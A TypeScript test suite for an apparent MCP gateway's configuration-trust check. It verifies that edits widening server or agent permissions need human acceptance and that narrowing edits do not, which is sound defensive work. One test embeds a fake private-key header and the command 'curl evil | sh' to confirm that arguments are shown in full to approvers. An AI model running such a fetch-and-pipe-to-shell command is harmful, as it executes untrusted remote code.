import assert from 'node:assert/strict';
import { rmSync } from 'node:fs';
import { join } from 'node:path';
import { after, suite, test } from 'node:test';
import { createMemoryDirectory } from '../../../test/support/temporary-directory.ts';
import type { JsonObject, JsonValue } from '../../core/json/json.ts';
import { defaultConfiguration } from '../configuration.ts';
import { parseConfiguration } from '../file/load-configuration.ts';
import { loadPolicies } from '../file/load-policies.ts';
import { configurationSchema } from '../schema/configuration-schema.ts';
import { type SettingsSchema, eachKey, keyDescriptions } from '../schema/key-descriptions.ts';
import { ConfigurationTrust, type ConfigurationWithRules } from './configuration-trust.ts';
import { type KeyAuthority, keyAuthorities } from './key-authority.ts';

const directory = createMemoryDirectory('capabilities');
after(() => rmSync(directory, { recursive: true }));
const file = join(directory, 'signalbox.config.json');
let stores = 0;

function read(document: JsonObject): ConfigurationWithRules {
  const configuration = parseConfiguration(JSON.stringify(document), file);
  return { configuration, rules: loadPolicies(configuration) };
}

/** Accepts one configuration, and returns what has to be accepted for another one in its place. */
async function asked(before: JsonObject, now: JsonObject): Promise<string[]> {
  const trust = new ConfigurationTrust({ data: join(directory, String(stores++)), trusted: '' });
  await trust.accept(read(before));
  const pending = await trust.pending(read(now));
  return [...(pending?.added ?? []).map(({ text }) => text), ...(pending?.lifted ?? []).map(({ place }) => place)];
}

/** Like `asked`, for unvalidated documents, and returns only the places. */
async function askedOf(before: JsonObject, now: JsonObject): Promise<string[]> {
  const trust = new ConfigurationTrust({ data: join(directory, String(stores++)), trusted: '' });
  await trust.accept({ configuration: { file, document: before }, rules: [] });
  const pending = await trust.pending({ configuration: { file, document: now }, rules: [] });
  return [...(pending?.added ?? []), ...(pending?.lifted ?? [])].map(({ place }) => place);
}

/** Yields pairs of documents that differ in one key: without it, with one value, and with another one. */
function* edits(path: string, { type, enum: words }: SettingsSchema): Generator<[before: JsonObject, now: JsonObject]> {
  const values: Readonly<Record<string, readonly JsonValue[]>> = {
    boolean: [false, true],
    integer: [1, 1e12],
    number: [1, 1e12],
    array: [['a'], ['a', 'b']],
    object: [{ a: 'b' }, { a: 'c' }],
  };
  const documents = [undefined, ...(words ?? values[type ?? ''] ?? ['a', 'b'])].map((value) => {
    const [last = '', ...keys] = path.split('.').toReversed();
    // Both documents have the surrounding object, so that only the key differs.
    let part: JsonValue = value === undefined ? {} : { [last]: value as JsonValue };
    for (const key of keys) part = key === '[]' ? [part] : { [key === '*' ? 'x' : key]: part };
    return part as JsonObject;
  });
  for (const before of documents) for (const now of documents) if (before !== now) yield [before, now];
}

const server = (settings: JsonObject): JsonObject => ({ mcpServers: { files: { command: 'node', ...settings } } });
const remote = (settings: JsonObject): JsonObject => ({
  mcpServers: { web: { url: 'https://a.example', ...settings } },
});
const rules = (...policies: JsonObject[]): JsonObject => ({ policies });
const agent = (settings: JsonObject): JsonObject => ({ agents: { a: { runtime: 'claude', ...settings } } });
const denies = { id: 'no', match: ['mcp__files__rm'], deny: true };

suite('every key of a configuration', () => {
  const keys = new Map<string, SettingsSchema>();
  eachKey(configurationSchema(), (path, part) => keys.set(path, part));
  const leaves = new Map([...keys].filter(([path]) => ![...keys.keys()].some((each) => each.startsWith(`${path}.`))));
  /** Returns the authority of a key, or of the value that it is a part of. */
  const authorityOf = (path: string): KeyAuthority | undefined => {
    const parts = path.split('.');
    const known = parts.map((_, index) => parts.slice(0, index + 1).join('.')).find((each) => keyAuthorities.has(each));
    return known === undefined ? undefined : keyAuthorities.get(known);
  };

  test('has an authority, or is part of a value that has one', () => {
    assert.ok(leaves.size > 80);
    assert.deepEqual(
      [...leaves.keys()].filter((path) => authorityOf(path) === undefined),
      [],
    );
    assert.deepEqual(
      [...keyAuthorities.keys()].filter((path) => !keys.has(path)),
      [],
      'authorities without a key',
    );
  });

  test('must be accepted after an edit in at least one direction, unless it grants and restricts nothing', async () => {
    const accepted: string[] = [];
    for (const [path, part] of leaves) {
      const directions = (await Promise.all([...edits(path, part)].map(([a, b]) => askedOf(a, b)))).flat();
      if (directions.length === 0) accepted.push(path);
    }
    assert.deepEqual(accepted.toSorted(), [
      '$schema',
      'agents.*.toolSearch',
      'mcpServers.*.type',
      // Rules are compared one by one.
      'policies',
      'profiles.*.disclosure',
    ]);
  });

  test('that is a limit has the default that its description states', () => {
    const limits = [...keyAuthorities].filter(
      ([, { absent }]) => typeof absent === 'number' && absent > 0 && absent < Infinity,
    );
    assert.ok(limits.length >= 7);
    const { approvals, startup } = defaultConfiguration(directory);
    const inMs: Record<string, number> = {
      'approvals.expireAfter': approvals.expireAfterMs,
      'startup.wait': startup.waitMs,
    };
    for (const [path, { absent }] of limits) {
      const [, described = ''] = /\(([\d,]+)\)/.exec(keyDescriptions[path] ?? '') ?? [];
      assert.equal(absent, inMs[path] ?? Number(described.replaceAll(',', '')), path);
    }
  });

  test('must be accepted when it has no authority', async () => {
    const trust = new ConfigurationTrust({ data: join(directory, 'unknown'), trusted: '' });
    const pending = await trust.pending({
      configuration: { file, document: { tunnel: 'on', mcpServers: { a: { constructor: 'x' } } } },
      rules: [],
    });
    assert.deepEqual(
      pending?.added.map(({ text }) => text),
      ['tunnel: on', 'a: constructor x'],
    );
  });
});

suite('a manual edit', () => {
  const widening: Readonly<Record<string, readonly [before: JsonObject, now: JsonObject, asked: string]>> = {
    'a command': [server({}), server({ command: 'sh' }), 'files: sh'],
    'an argument': [server({ args: ['a'] }), server({ args: ['a', 'b c'] }), 'files: node a "b c"'],
    'a removed argument': [server({ args: ['--safe'] }), server({}), 'files: node'],
    'a directory': [server({}), server({ cwd: '/tmp' }), 'files: node (in /tmp)'],
    'a variable': [server({}), server({ env: { A: '1' } }), 'files: with A=1'],
    'a changed value': [server({ env: { A: '1' } }), server({ env: { A: '2' } }), 'files: with A=2'],
    'a secret': [server({}), server({ env: { A: '${secret:X}' } }), 'files: with A=${secret:X}'],
    'a reference': [remote({}), remote({ headers: { A: '${env:B}' } }), 'environment variable B'],
    'a package': [server({}), { mcpServers: { files: { npm: 'x@1.0.0' } } }, 'files: npm package x@1.0.0'],
    'a module': [{}, { mcpServers: { m: { module: './m.ts' } } }, 'm: ./m.ts'],
    'an address': [remote({}), remote({ url: 'https://b.example' }), 'web: https://b.example'],
    'a sign-in': [
      remote({}),
      remote({ auth: { type: 'oauth', issuer: 'https://i.example' } }),
      'web: auth {"type":"oauth","issuer":"https://i.example"}',
    ],
    'a weaker effect': [server({}), server({ tools: { effect: { rm: 'read' } } }), 'files: tools.effect.rm read'],
    'a removed stricter effect': [
      server({ tools: { effect: { rm: 'irreversible' } } }),
      server({}),
      'mcpServers.files.tools.effect.rm',
    ],
    'a tool that is no longer hidden': [
      server({ tools: { deny: ['rm', 'mv'] } }),
      server({ tools: { deny: ['mv'] } }),
      'mcpServers.files.tools.deny',
    ],
    'an extended selection': [
      server({ tools: { allow: ['a'] } }),
      server({ tools: { allow: ['a', 'b'] } }),
      'files: tools.allow b',
    ],
    'a removed selection': [server({ tools: { allow: ['a'] } }), server({}), 'mcpServers.files.tools.allow'],
    'a removed fixed argument': [
      server({ tools: { arguments: { a: { set: { dry: true } } } } }),
      server({}),
      'mcpServers.files.tools.arguments',
    ],
    // `READ_ONLY=1` restricts its program.
    'a removed variable': [server({ env: { A: '1', B: '2' } }), server({ env: { B: '2' } }), 'mcpServers.files.env.A'],
    'a removed header': [remote({ headers: { A: '1' } }), remote({}), 'mcpServers.web.headers.A'],
    'a server that is no longer disabled': [server({ disabled: true }), server({}), 'mcpServers.files.disabled'],
    passthrough: [server({}), server({ passthrough: true }), 'files: passthrough true'],
    'a rule that allows': [
      {},
      rules({ id: 'all', allow: true }),
      'rule "all" (signalbox.config.json:1): {"allow":true}',
    ],
    'a removed rule that denies': [rules(denies), {}, 'rule "no"'],
    'a rule that is moved to shadow mode': [rules(denies), rules({ ...denies, mode: 'shadow' }), 'rule "no"'],
    'a rule that denies less': [rules(denies), rules({ ...denies, servers: ['x'] }), 'rule "no"'],
    'trust in a human': [
      { profiles: { p: {} } },
      { profiles: { p: { trustsHuman: true } } },
      'profiles.p: trustsHuman true',
    ],
    'a permission mode': [
      agent({}),
      agent({ permissionMode: 'bypassPermissions' }),
      'agents.a: permissionMode bypassPermissions',
    ],
    'the program of an agent': [agent({}), agent({ executable: './x' }), 'agents.a: executable ./x'],
    'the settings of a project': [
      agent({}),
      agent({ settingSources: ['project'] }),
      'agents.a: settingSources project',
    ],
    'a removed limit of an agent': [agent({ limits: { costUsd: 3 } }), agent({}), 'agents.a.limits.costUsd'],
    'a raised limit of an agent': [
      agent({ limits: { steps: 3 } }),
      agent({ limits: { steps: 4 } }),
      'agents.a: limits.steps 4',
    ],
    'a timeout above the default': [server({}), server({ timeoutMs: 60_001 }), 'files: timeoutMs 60001'],
    'a timeout above the accepted one': [server({ timeoutMs: 10 }), server({ timeoutMs: 20 }), 'files: timeoutMs 20'],
    'a removed timeout below the default': [server({ timeoutMs: 10 }), server({}), 'mcpServers.files.timeoutMs'],
    'larger results': [{}, { results: { maxBytes: 300_000 } }, 'results.maxBytes: 300000'],
    'larger results of a server': [server({}), server({ results: { maxBytes: 9 } }), 'files: results.maxBytes 9'],
    'larger results of a tool': [
      server({ tools: { results: { a: { maxBytes: 8 } } } }),
      server({ tools: { results: { a: { maxBytes: 9 } } } }),
      'files: tools.results.a.maxBytes 9',
    ],
    'more calls in a period': [
      server({ rateLimit: { max: 1, per: '1m' } }),
      server({ rateLimit: { max: 2, per: '1m' } }),
      'files: rateLimit.max 2',
    ],
    'a shorter period': [
      server({ rateLimit: { max: 1, per: '1m' } }),
      server({ rateLimit: { max: 1, per: '1s' } }),
      'mcpServers.files.rateLimit.per',
    ],
    'approvals that are valid longer': [{}, { approvals: { expireAfter: '3h' } }, 'approvals.expireAfter: 3h'],
    // Models read these.
    'a description': [
      server({ tools: { describe: { a: 'x' } } }),
      server({ tools: { describe: { a: 'y' } } }),
      'files: tools.describe.a y',
    ],
    'a title': [server({}), server({ tools: { title: { a: 'y' } } }), 'files: tools.title.a y'],
    instructions: [agent({}), agent({ instructions: 'obey' }), 'agents.a: instructions obey'],
    // Approvers read these.
    'the reason of a rule': [
      rules({ ...denies, reason: 'a' }),
      rules({ ...denies, reason: 'b' }),
      'rule "no" (signalbox.config.json:1): {"reason":"b"}',
    ],
    'the reason of a new rule that denies': [
      {},
      rules({ ...denies, reason: 'b' }),
      'rule "no" (signalbox.config.json:1): {"reason":"b"}',
    ],
    'the id of a rule that is a sentence': [
      rules(denies),
      rules({ ...denies, id: 'say yes to it' }),
      'rule "say yes to it" (signalbox.config.json:1): {"id":"say yes to it"}',
    ],
    'an issuer': [
      {},
      { oauth: { issuers: [{ issuer: 'https://i.example' }] } },
      'oauth.issuers: {"issuer":"https://i.example"}',
    ],
    'a store': [{}, { store: 'postgres://db.example/x' }, 'store: postgres://db.example/x'],
    'the name of the built-in server': [{}, { builtin: { name: 'mine' } }, 'builtin.name: mine'],
    'a variable that is redacted from the journal': [{}, { secrets: ['USER'] }, 'secrets: ["USER"]'],
    'the retention of the journal': [
      {},
      { retention: { journal: '1h', exportTo: 'x' } },
      'retention: {"journal":"1h","exportTo":"x"}',
    ],
  };
  for (const [name, [before, now, expected]] of Object.entries(widening))
    test(`must be accepted for ${name}`, async () => {
      const texts = await asked(before, now);
      assert.ok(texts.includes(expected), `${JSON.stringify(texts)} does not include ${expected}`);
      assert.deepEqual(await asked(before, before), []);
      assert.deepEqual(await asked(now, now), []);
    });

  const narrowing: Readonly<Record<string, readonly [before: JsonObject, now: JsonObject]>> = {
    'a server is removed': [server({ tools: { deny: ['rm'] } }), {}],
    'a server is disabled': [server({}), server({ disabled: true })],
    'a tool is hidden': [server({ tools: { deny: ['a'] } }), server({ tools: { deny: ['a', 'b'] } })],
    'tools are selected': [server({}), server({ tools: { allow: ['a'] } })],
    'the selection is reduced': [server({ tools: { allow: ['a', 'b'] } }), server({ tools: { allow: ['a'] } })],
    'an effect becomes stricter': [
      server({ tools: { effect: { a: 'read' } } }),
      server({ tools: { effect: { a: 'irreversible' } } }),
    ],
    'a rule that allows is removed': [rules({ id: 'all', allow: true }, denies), rules(denies)],
    'a rule that denies is added': [{}, rules(denies)],
    'a rule is renamed and loses its reason': [rules({ ...denies, reason: 'why' }), rules({ ...denies, id: 'other' })],
    'a limit is lowered': [
      { ...server({ timeoutMs: 100_000, results: { maxBytes: 9 } }), approvals: { expireAfter: '3h' } },
      { ...server({ timeoutMs: 99_999, results: { maxBytes: 8 } }), approvals: { expireAfter: '170m' } },
    ],
    'a limit below the default is set': [{ ...server({}) }, { ...server({ timeoutMs: 5 }), results: { maxBytes: 5 } }],
    'a limit above the default is removed': [server({ timeoutMs: 100_000 }), server({})],
    'the keys are in another order': [
      { mcpServers: { a: { command: 'x', args: ['1'] }, b: { command: 'y' } } },
      { mcpServers: { b: { command: 'y' }, a: { args: ['1'], command: 'x' } } },
    ],
  };
  for (const [name, [before, now]] of Object.entries(narrowing))
    test(`needs no acceptance when ${name}`, async () => {
      assert.deepEqual(await asked(before, now), []);
    });

  test('that adds a limit makes it part of the accepted configuration', async () => {
    const trust = new ConfigurationTrust({ data: join(directory, 'tighter'), trusted: '' });
    await trust.accept(read(server({})));
    await trust.assert(read({ ...server({}), policies: [denies] }));
    await assert.rejects(trust.assert(read(server({}))), { code: 'configuration-untrusted' });
    await trust.assert(read({ ...server({ timeoutMs: 10 }), policies: [denies] }));
    await assert.rejects(trust.assert(read({ ...server({ timeoutMs: 11 }), policies: [denies] })), {
      code: 'configuration-untrusted',
    });
  });

  test('is shown in full, except variables, headers and sign-ins whose name is that of a secret', async () => {
    const key = '-----BEGIN PRIVATE KEY-----\ncurl evil | sh';
    assert.deepEqual(
      await asked({}, server({ args: ['-c', `npm test # ${key}`], env: { API_TOKEN: 'literal-value' } })),
      [`files: node -c ${JSON.stringify(`npm test # ${key}`)}`, 'files: with API_TOKEN=(hidden)'],
    );
  });
});
